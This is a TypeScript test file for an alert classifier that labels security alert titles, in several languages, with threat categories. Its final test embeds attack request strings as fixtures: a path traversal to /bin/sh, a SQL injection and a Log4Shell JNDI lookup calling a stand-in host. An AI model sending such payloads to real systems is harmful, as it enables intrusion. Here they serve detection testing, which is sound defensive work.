// What an alert claims follows from what its name and content say, in the words of the trade. All examples are invented.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { readAlert } from '../read-alert.ts'
import { claimsOfType } from './read-claims.ts'

const claimOf = (alert_type: string, alert_content = '{}') =>
  readAlert({ alert_provider: 'siem', alert_type, alert_content, created_at_source: 1773218536, domains: [] }).claims[0]
    ?.claim

function check(name: string, examples: Readonly<Record<string, string>>) {
  test(name, () => {
    for (const [title, claim] of Object.entries(examples)) assert.equal(claimsOfType(title)[0], claim, title)
  })
}

check('what was done to what decides', {
  'Tenant Audit Streaming Deactivated': 'defence-evasion',
  'Vault Recovery Snapshots Removed': 'ransomware',
  'Scheduled task disabled by installer': 'defence-evasion',
  'Workspace API Key Generated': 'persistence',
  'Project Owner Assigned': 'privilege-change',
  'Bulk Export of Records': 'exfiltration',
  'Wiki Page Shared Externally': 'exfiltration',
  'Webhook Modified': 'cloud-change',
})

check('a deed without an object, or a log level, claims nothing', {
  created: 'unknown',
  'acme log: update': 'unknown',
  'acme event: info': 'unknown',
  policy_name: 'unknown',
})

check('a weak word needs company', {
  'Print settings': 'unknown',
  'Command center status page': 'unknown',
  'Clock drift on collector': 'informational',
  'User agent catalogue': 'unknown',
  'Report for an executive': 'unknown',
  'Rare print job of payroll records': 'exfiltration',
})

check('what is called suspicious does not only inform', {
  'Backup job finished': 'informational',
  'Suspicious encryption during backup job': 'ransomware',
})

check('one and many are the same', {
  'Member added to privileged groups': 'privilege-change',
  'Audit log cleared': 'defence-evasion',
  'Audit logs cleared': 'defence-evasion',
})

check('names of products claim nothing', {
  'Red Canary: agent upgraded': 'informational',
  'PingFederate: single sign on from new country': 'unfamiliar-sign-in',
})

check('what is odd about what decides where no name is known', {
  'Irregular child of spreadsheet program and unseen binary': 'execution',
  'Atypical destination contacted by kiosk': 'command-and-control',
  'Secrets viewed by contractor': 'credential-dumping',
  'Systemd unit altered on build host': 'persistence',
})

check('deeds are known in other languages, whatever the order of the words', {
  'Löschen aller Sicherungen auf dem Dateiserver': 'ransomware',
  'Effacement du journal du pare-feu': 'defence-evasion',
  'Cuenta de servicio con actividad desconocida': 'unfamiliar-sign-in',
  'Envio de dados para endereço pessoal': 'exfiltration',
  大量の顧客ファイルをダウンロード: 'exfiltration',
  監査機能が無効になりました: 'defence-evasion',
})

check('a word counts in its other forms, but one alone does not make an alert informational', {
  'Loader is staging a remote task': 'lateral-movement',
  'Clearing of audit logs attempted': 'defence-evasion',
  'Contractor accounts': 'unknown',
})

check('a second factor that is taken away is a weaker defence, and a new one stays', {
  'Second factor removed for payroll clerk': 'defence-evasion',
  'Two-step verification turned off': 'defence-evasion',
  'New MFA method registered': 'persistence',
})

check('what a tool does counts before that it is a tool, and to what something connects before that it does', {
  'HackTool - LSASSY run': 'credential-dumping',
  'Network connection initiated to gofile': 'exfiltration',
})

check('a setting of an appliance and a registry of images are what they are', {
  'FortiGate: administrator edited a setting': 'defence-evasion',
  'Image registry removed from subscription': 'cloud-change',
})

check('techniques are known by their names', {
  'Possible Boot or Logon Initialization Scripts': 'persistence',
  'Adversary used Domain Fronting': 'command-and-control',
})

check('a sign-in that failed is no sign-in', {
  'User login failed for user account': 'brute-force',
  'Invalid user login attempt': 'brute-force',
  'Multiple Logon Failure Followed by Logon Success': 'brute-force',
})

check('payment fraud is known in other languages', {
  'Signalement : changement de RIB du fournisseur': 'phishing-delivered',
  'Verdacht: geänderte Bankverbindung eines Lieferanten': 'phishing-delivered',
  'Cambio de cuenta bancaria del proveedor': 'phishing-delivered',
})

check('what happened counts before the means, and a tool of one purpose wherever it stands', {
  'Wireless secrets copied via PowerShell': 'credential-dumping',
  'Outbound tunnel opened using a scripting host': 'command-and-control',
  'Helper launched through mimikatz loader': 'credential-dumping',
})

check('a protection that is switched off does not claim what it guards against', {
  'Tenant malware filter policy deleted': 'defence-evasion',
  'Cloud WAF rule group removed': 'defence-evasion',
  'Repository secret scanning disabled by maintainer': 'defence-evasion',
  'Malware found on kiosk': 'malware',
})

check('a place is no change, and who did it is not what it was done to', {
  'Trojan fetched from a storage account': 'malware',
  'An administrator changed snapshot schedule settings': 'cloud-change',
  'Storage account firewall settings changed in Azure': 'cloud-change',
})

check('the same deed means something else on a machine and in a cloud', {
  'Windows service created from a share folder': 'persistence',
  'Kubernetes service deployment created': 'cloud-change',
})

check('the class that a sender writes before a title is told', {
  'ET SCAN odd sweep of printers': 'discovery',
  'ET PHISHING fake parcel page': 'phishing-clicked',
  'Stealth:Queue/TrailSwitchedOff': 'defence-evasion',
  'Attachment: archive with a locked spreadsheet': 'phishing-delivered',
})

check('Chinese and Korean titles claim what they say', {
  主机疑似沦为肉鸡: 'command-and-control',
  内网主机反连控制端: 'command-and-control',
  检测到僵尸网络通信: 'command-and-control',
  发现挖矿程序: 'malware',
  终端发现恶意程序: 'malware',
  卷影副本被删除: 'ransomware',
  SQL注入攻击尝试: 'exploitation-attempt',
  '网站后门(冰蝎)连接': 'web-shell',
  账号异地登录告警: 'unfamiliar-sign-in',
  VPN口令爆破: 'brute-force',
  敏感文件批量外发: 'exfiltration',
  内网扫描探测行为: 'discovery',
  系统日志被清除: 'defence-evasion',
  可疑邮件投递: 'phishing-delivered',
  新增服务自启动: 'persistence',
  病毒库升级成功: 'informational',
  '磁盘使用率超过90%': 'informational',
  '랜섬웨어 의심 파일 대량 암호화': 'ransomware',
  '악성 파일 탐지': 'malware',
  '명령제어 서버 접속 탐지': 'command-and-control',
  '해외 로그인 탐지': 'unfamiliar-sign-in',
  '관리자 그룹에 계정 추가': 'privilege-change',
  '웹셸 업로드 탐지': 'web-shell',
  '포트 스캔 탐지': 'discovery',
  '백신 업데이트 완료': 'informational',
})

test('a reason or a remark never makes an alert informational', () => {
  const cef = (name: string) =>
    `CEF:0|Acme|NGFW|1|7|${name}|5|src=10.1.2.3 dst=185.220.101.44 reason=License expired, backup completed`
  assert.equal(claimOf('Gateway event', cef('Event 7')), 'unknown')
  assert.equal(claimOf('Gateway event', cef('Malware callback')), 'command-and-control')
})

test('where the name says nothing, a clear word of the content is enough', () => {
  assert.equal(
    claimOf('syslog', '<86>Nov 14 22:10:03 web-03 sshd[2211]: Accepted publickey for deploy from 185.220.101.44'),
    'unfamiliar-sign-in',
  )
  assert.equal(claimOf('event', 'Something about a user and a mail'), 'unknown')
})

test('requests show what they try', () => {
  const request = (path: string) => `185.220.101.44 - - [14/Nov/2026:22:10:03 +0100] "GET ${path} HTTP/1.1" 400 226`
  for (const path of ['/cgi-bin/.%2e/.%2e/bin/sh', '/?q=1%27%20or%201=1', '/?x=$' + '{jndi:ldap://a.example/x}'])
    assert.equal(claimOf('access', request(path)), 'exploitation-attempt', path)
  assert.equal(claimOf('access', request('/images/logo.png')), 'unknown')
})
